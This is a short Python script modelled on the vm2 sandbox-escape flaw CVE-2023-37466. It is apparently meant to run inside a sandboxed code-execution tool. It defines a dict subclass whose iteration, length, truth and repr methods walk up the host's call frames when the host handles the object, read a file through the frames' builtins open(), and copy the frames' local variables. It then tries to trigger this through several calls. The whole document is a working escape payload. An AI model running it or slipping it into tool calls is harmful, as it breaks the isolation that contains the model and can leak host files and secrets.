# Tries: a result whose own methods run when the host takes it, and see who calls.
# Origin: the shape of vm2 CVE-2023-37466, in Python.

import sys

found = []


class Result(dict):
    def _look(self, *_):
        frame = sys._getframe(1)
        while frame:
            found.append(frame.f_builtins["open"](input["file"]).read())
            found.append(repr(frame.f_locals)[:2000])
            frame = frame.f_back
        return iter(())

    __await__ = __iter__ = items = keys = __len__ = __bool__ = __repr__ = _look


for use in (lambda: emit(Result(a=1)), lambda: print(Result(a=1)), lambda: Result(a=1)._look()):
    try:
        use()
    except Exception as error:
        found.append(repr(error))
[found, Result(a=1)] if "ToolError" in dir() else found
